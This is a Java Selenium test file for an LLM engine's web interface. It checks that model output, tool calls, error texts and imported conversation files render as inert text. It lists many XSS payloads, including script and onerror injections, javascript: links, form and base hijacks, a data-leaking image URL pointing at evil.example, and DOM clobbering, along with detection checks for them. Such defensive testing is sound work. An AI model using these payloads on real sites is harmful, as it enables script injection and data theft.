package llmengine.serve.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;

/** What a model writes, or a file brings, stays text: it runs nothing and loads nothing. */
class WebSafetyTest extends BrowserTest {
  private static final String[] ATTACKS = {
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=\"window.hacked = 1\">",
    "<svg onload=\"window.hacked = 1\"><script>window.hacked = 1</script></svg>",
    "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
    "<a href=\"javascript:window.hacked = 1\">link</a>",
    "[link](javascript:window.hacked=1)",
    "[link](JaVaScRiPt&colon;window.hacked=1)",
    "[link](data:text/html,<script>opener.hacked=1</script>)",
    "[link](vbscript:x) [rel](/v1/models) [proto](//evil.example/x)",
    "![picture](https://evil.example/pixel.png?talk=secret)",
    "![picture](x\" onerror=\"window.hacked=1)",
    "[a](https://e.example/\"onmouseover=\"window.hacked=1)",
    "[ref]\n\n[ref]: javascript:window.hacked=1 \"title\"",
    "<javascript:window.hacked=1>",
    "```html\"><img src=x onerror=window.hacked=1>\n<script>window.hacked = 1</script>\n```",
    "```<b onclick=\n</code></pre><script>window.hacked = 1</script>\n```",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
    "- [x] <details open ontoggle=window.hacked=1>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<form action=//evil.example><button>send</button></form><style>*{display:none}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<b id=\"__proto__\" name=\"getElementById\">clobber</b>"
  };

  @Test
  void outputOfAModelDoesNothing() {
    String all = String.join("\n\n", ATTACKS);
    server.answer(new FakeChatServer.Step.Think(all), new FakeChatServer.Step.Say(all));
    browser.ask("Attack " + ATTACKS[1]);
    browser.click(".fold summary");
    browser.untilText(".answer > .prose", "clobber");
    assertHarmless(".messages");
    // still readable, as the text it is
    browser.untilText(".answer > .prose", "<script>window.hacked = 1</script>");
    browser.untilText(".bubble", ATTACKS[1]);
  }

  @Test
  void everyAttackAloneDoesNothing() {
    Object html =
        browser.await(
            "const m = await import('/js/markdown.js');return arguments[0].map(text =>"
                + " m.blocks(text).map(b => String(m.toHtml(b))).join('')).join('\\n"
                + "')",
            java.util.List.of(ATTACKS));
    assertThat((String) html)
        .doesNotContain("<script", "<img", "<svg", "<iframe", "<form", "<style", "<base", "<math")
        .doesNotContainPattern("<[a-z][^>]* id=")
        .doesNotContainPattern("<a [^>]*href=\"(?!https?://|mailto:)")
        .contains(
            "<a href=\"https://evil.example/pixel.png?talk=secret\" target=\"_blank\""
                + " rel=\"noopener noreferrer nofollow\">")
        .doesNotContainPattern("<[^>]* on\\w+=");
  }

  @Test
  void halfMarkupWhileStreamingDoesNothing() {
    var steps = new java.util.ArrayList<FakeChatServer.Step>();
    for (String piece :
        String.join("\n\n", ATTACKS[0], ATTACKS[1], ATTACKS[5]).split("(?<=\\G.{3})")) {
      steps.add(new FakeChatServer.Step.Say(piece));
      steps.add(new FakeChatServer.Step.Pause(15));
    }
    server.answer(steps.toArray(FakeChatServer.Step[]::new));
    browser.ask("Attack");
    assertHarmless(".messages");
  }

  @Test
  void toolCallsAndErrorsDoNothing() {
    server.answer(
        new FakeChatServer.Step.Call(
            "{\"index\":0,\"id\":\"1\",\"function\":{\"name\":\"<img src=x onerror=hacked=1>\","
                + "\"arguments\":\"<script>hacked=1</script>\"}}"));
    browser.ask("Attack");
    browser.untilText(".call", "<script>hacked=1</script>");
    server.answer(new FakeChatServer.Step.Refuse(400, "<img src=x onerror=hacked=1>"));
    browser.ask("More");
    browser.untilText(".ending", "<img src=x");
    assertHarmless(".messages");
  }

  @Test
  void titlesAndImportedFilesDoNothing(@TempDir Path folder) throws IOException {
    String node = "\"id\":\"%s\",\"parent\":%s,\"role\":\"%s\",\"content\":%s,\"created\":1";
    String file =
        """
        {"format": "llm-engine-conversations", "version": 1, "conversations": [{
          "id": "<img src=x onerror=hacked=1>", "title": "<img src=x onerror=hacked=1>", "created": 1,
          "updated": 9e15, "model": "m", "system": "s", "leaf": "a2", "nodes": {
            "a1": {%s}, "a2": {%s, "__html": "<b>", "status": "<b>", "dangerouslySetInnerHTML": {"__html": "<img>"}}}}]}
        """
            .formatted(
                node.formatted("a1", "null", "user", "\"<script>hacked=1</script>\""),
                node.formatted(
                    "a2",
                    "\"a1\"",
                    "assistant",
                    "\"[x](javascript:hacked=1) <img src=x onerror=hacked=1>\""));
    Path path = Files.writeString(folder.resolve("evil.json"), file);
    browser.driver.findElement(By.id("import")).sendKeys(path.toString());
    browser.untilText(".entry-title", "<img src=x onerror=hacked=1>");
    browser.click(".entry-title");
    browser.untilText(".answer", "<img src=x onerror=hacked=1>");
    assertHarmless("#app");
    assertThat(browser.driver.getTitle()).startsWith("<img src=x onerror=hacked=1>");
  }

  @Test
  void damagedImportsAreRefusedWithAReason(@TempDir Path folder) throws IOException {
    String head = "{\"format\":\"llm-engine-conversations\",\"version\":1,\"conversations\":";
    String talk = "[{\"title\":\"t\",\"created\":1,\"updated\":1,\"leaf\":null,\"nodes\":";
    String[][] files = {
      {"no json", "not valid JSON"},
      {"[]", "format: expected"},
      {head + "3}", "conversations: expected a list"},
      {head + "[null]}", "conversations[0].nodes: expected object"},
      {head + talk + "{\"__proto__\":{}}}]}", "expected one of user"},
      {
        head
            + talk
            + "{\"zz\":{\"id\":\"zz\",\"parent\":null,\"role\":\"user\",\"content\":\"x\",\"created\":1}}}]}",
        "hexadecimal"
      },
      {
        head
            + talk
            + "{\"a\":{\"id\":\"a\",\"parent\":\"b\",\"role\":\"user\",\"content\":\"x\",\"created\":1}}}]}",
        "comes before"
      },
      {
        head
            + talk
            + "{\"a\":{\"id\":\"a\",\"parent\":null,\"role\":\"user\",\"content\":{},\"created\":1}}}]}",
        "content: expected string, got object"
      },
    };
    for (String[] file : files) {
      Path path = Files.writeString(folder.resolve("damaged.json"), file[0]);
      browser.driver.findElement(By.id("import")).sendKeys(path.toString());
      browser.untilText(".notice.problem", file[1]);
      browser.click(".notice button");
    }
    assertThat(browser.all(".entry")).isEmpty();
  }

  private void assertHarmless(String css) {
    String inside = "return document.querySelector('" + css + "')";
    assertThat(
            browser.run(
                inside
                    + ".querySelectorAll('script, .prose img, svg:not(.icon), iframe, style,"
                    + " form:not(.calls, .composer), base, meta, math, object, embed').length"))
        .isEqualTo(0L);
    assertThat(
            browser.run(
                "return [..."
                    + inside.substring("return ".length())
                    + ".querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a =>"
                    + " a.name.startsWith('on') ||"
                    + " /^\\s*(javascript|data|vbscript):/i.test(a.value)).map(a => a.name + '=' +"
                    + " a.value).join()"))
        .isEqualTo("");
    assertThat(
            browser.run(
                "return [...document.querySelectorAll('.prose a')].every(a =>"
                    + " /^https?:|^mailto:/.test(a.href))"))
        .isEqualTo(true);
    assertThat(browser.run("return window.hacked ?? null")).isNull();
    assertThat(
            browser.run(
                "return performance.getEntriesByType('resource').map(e => e.name)"
                    + ".filter(n => !n.startsWith(location.origin)).join()"))
        .isEqualTo("");
  }
}
